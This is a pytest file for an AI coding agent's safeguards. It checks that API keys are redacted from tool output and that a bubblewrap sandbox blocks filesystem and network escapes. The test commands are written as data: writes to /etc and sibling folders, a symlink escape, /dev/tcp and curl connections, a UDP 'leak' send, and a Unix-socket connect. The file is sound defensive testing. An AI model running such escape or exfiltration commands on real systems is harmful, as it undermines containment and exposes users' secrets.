    (project / ".env").write_text(f"ANTHROPIC_API_KEY={SECRET}\n")
    (project / "settings.py").write_text(f'CONFIG_KEY = "{SECRET}-openai"\n')
    agent = _agent_holding(project, fake_model, monkeypatch, SECRET)
    fake_model.script(
        Reply(parts=[ToolCall("Read", {"file_path": ".env"}),
                     ToolCall("Grep", {"pattern": "KEY", "output_mode": "content", "glob": "*.py"})]),
        Reply(parts=[Text("done")]),
    )
    try:
        events = await run(agent, "find the keys")
    finally:
        await agent.aclose()
    read, grep = results(agent)
    assert f"ANTHROPIC_API_KEY={REDACTED}" in read.text and f'CONFIG_KEY = "{REDACTED}"' in grep.text
    finished = "".join(e.output for e in of_type(events, ev.ToolCallFinished))
    assert REDACTED in finished and SECRET not in finished + sent_to_model(fake_model)


async def test_key_in_background_output_is_redacted(project, monkeypatch):
    (project / ".env").write_text(f"ANTHROPIC_API_KEY={SECRET}\n")
    ctx = ToolContext(cwd=project, roots=[project], env={**os.environ, "ANTHROPIC_API_KEY": SECRET})
    try:
        started = await Bash().run(Bash.Input(command="cat .env", run_in_background=True), ctx)
        read = await TaskOutput().run(TaskOutput.Input(task_id=started.metadata["task_id"]), ctx)
    finally:
        await ctx.services.shell.close()
    assert f"New output:\nANTHROPIC_API_KEY={REDACTED}" in read.output
    assert SECRET not in read.output


def test_short_placeholders_are_not_secrets():
    """`CLAW_LOCAL_API_KEY=local` would otherwise turn every "local" in every output into [REDACTED]."""
    secrets = secret_values({"CLAW_LOCAL_API_KEY": "local", "OPENAI_API_KEY": "sk-abc12345", "HOME": "/home/user1"})
    assert secrets == {"sk-abc12345"}
    assert redact("local sk-abc12345 /home/user1", secrets) == f"local {REDACTED} /home/user1"
    assert redact("ab-long-key", {"ab-long", "ab-long-key"}) == REDACTED, "the longer key first"


# --- the sandbox, with real bubblewrap ------------------------------------------------------------

SANDBOX = {"sandbox": {"enabled": True, "network": False}}


@pytest.fixture
def var_tmp_project():
    """A workspace under /var/tmp with a sibling `proj-evil` and a place outside: the sandbox gives
    commands their own /tmp, so places under /tmp would be hidden rather than read-only."""
    base = Path(tempfile.mkdtemp(prefix="claw-adversarial-", dir="/var/tmp")).resolve()
    for name in ("proj", "proj-evil", "outside"):
        (base / name).mkdir()
    yield base / "proj"
    shutil.rmtree(base, ignore_errors=True)


@pytest.mark.needs("bwrap")
async def test_sandboxed_writes_outside_the_workspace_fail(fake_model, var_tmp_project):
    project = var_tmp_project
    outside, sibling = project.parent / "outside" / "x", project.parent / "proj-evil" / "x"
    command = (f"touch inside; touch {outside}; echo pwned > {sibling}; touch /etc/claw-x; "
               f"ln -s /etc etc-link && touch etc-link/claw-y; echo done")
    approver = ScriptedApprover(ApprovalResponse(behavior="allow"))  # the redirect outside asks even in bypass
    agent, _ = await turn(fake_model, project, bash(command), mode="bypassPermissions", approver=approver,
                          settings=SANDBOX)
    lines = results(agent)[0].text.split("\n")
    assert (project / "inside").exists() and lines[-1] == "done"
    assert lines[0] == f"touch: cannot touch '{outside}': Read-only file system"
    assert lines[1].startswith("bash: line ") and lines[1].endswith(f"{sibling}: Read-only file system")
    assert lines[2:-1] == [
        "touch: cannot touch '/etc/claw-x': Read-only file system",
        "touch: cannot touch 'etc-link/claw-y': Read-only file system",
    ]
    for path in (outside, sibling, Path("/etc/claw-x"), Path("/etc/claw-y")):
        assert not path.exists(), path


_WAYS_OUT = {
    "python socket": f"{sys.executable} -c \"import socket; socket.create_connection(('127.0.0.1', {{port}}), "
                     "timeout=5); print('connected')\"",
    "bash /dev/tcp": "exec 3<>/dev/tcp/127.0.0.1/{port} && echo connected",
    "curl": "curl -sS --connect-timeout 5 --max-time 1 http://127.0.0.1:{port}/ ; echo curl-exit=$?",
}


@pytest.mark.needs("bwrap")
@pytest.mark.parametrize("network", [False, True], ids=["cut", "allowed"])
@pytest.mark.parametrize("way", sorted(_WAYS_OUT))
async def test_sandboxed_network_call_never_arrives(fake_model, project, way, network):
    """A real listener on the host loopback; with the network allowed (the control) the call arrives."""
    assert shutil.which("curl") or way != "curl", "curl is on this machine; keep testing it"
    with socket.create_server(("127.0.0.1", 0)) as server:
        port = server.getsockname()[1]
        settings = {"sandbox": {"enabled": True, "network": network}}
        approver = ScriptedApprover(ApprovalResponse(behavior="allow"))  # `<> /dev/tcp/…` asks even in bypass
        agent, _ = await turn(fake_model, project, bash(_WAYS_OUT[way].format(port=port)), mode="bypassPermissions",
                              approver=approver, settings=settings)
        arrived, _, _ = select.select([server], [], [], 0)
    result = results(agent)[0]
    assert "was denied" not in result.text, "the command must really run"
    if network:
        assert arrived, result.text
    else:
        assert not arrived, f"{way} reached the host from the sandbox"
        assert "connected" not in result.text.split("\n") and "curl-exit=0" not in result.text


@pytest.mark.needs("bwrap")
@pytest.mark.parametrize("network", [False, True], ids=["cut", "allowed"])
async def test_sandboxed_udp_datagram_never_arrives(fake_model, project, network):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as server:
        server.bind(("127.0.0.1", 0))
        server.setblocking(False)
        port = server.getsockname()[1]
        code = f"import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'leak', ('127.0.0.1', {port}))"
        agent, _ = await turn(fake_model, project, bash(f'{sys.executable} -c "{code}"; echo ran'),
                              mode="bypassPermissions", settings={"sandbox": {"enabled": True, "network": network}})
        assert results(agent)[0].text.endswith("ran")
        if network:
            assert server.recv(100) == b"leak"
        else:
            with pytest.raises(BlockingIOError):
                server.recv(100)


@pytest.mark.needs("bwrap")
@pytest.mark.parametrize("sandboxed", [True, False], ids=["sandboxed", "unsandboxed"])
async def test_sandboxed_command_cannot_reach_a_unix_socket_outside(fake_model, var_tmp_project, sandboxed):
    """A service's socket (Docker's is root on the host) stays out of reach through the read-only
    filesystem, even with the network allowed; unsandboxed (the control) the connection is made."""
    path = var_tmp_project.parent / "outside" / "service.sock"
    with socket.socket(socket.AF_UNIX) as server:
        server.bind(str(path))
        server.listen(1)
        server.setblocking(False)
        code = f"import socket; socket.socket(socket.AF_UNIX).connect('{path}'); print('connected')"
        settings = {"sandbox": {"enabled": sandboxed, "network": True}}
        agent, _ = await turn(fake_model, var_tmp_project, bash(f'{sys.executable} -c "{code}"; echo ran'),
                              mode="bypassPermissions", settings=settings)
        arrived, _, _ = select.select([server], [], [], 0)
    text = results(agent)[0].text
    assert text.endswith("ran"), text
    if sandboxed:
        assert not arrived and "PermissionError" in text and "connected" not in text.split("\n")
    else:
        assert arrived and "connected" in text.split("\n")


@pytest.mark.needs("bwrap")
async def test_sandboxed_read_only_command_through_a_symlink_asks(fake_model, project):
    """In default mode a sandboxed `cat` runs unasked only inside the workspace, symlinks resolved."""
    (project.parent / "outside" / "secret.txt").write_text("the launch codes\n")
    os.symlink(project.parent / "outside", project / "escape")
    (project / "fine.txt").write_text("fine\n")
    approver = ScriptedApprover()
    agent, _ = await turn(fake_model, project, bash("cat fine.txt"), bash("cat escape/secret.txt"),
                          approver=approver, settings=SANDBOX)
    assert [r.command for r in approver.requests] == ["cat escape/secret.txt"]
    assert results(agent)[0].text == "fine"
    assert "launch codes" not in sent_to_model(fake_model)
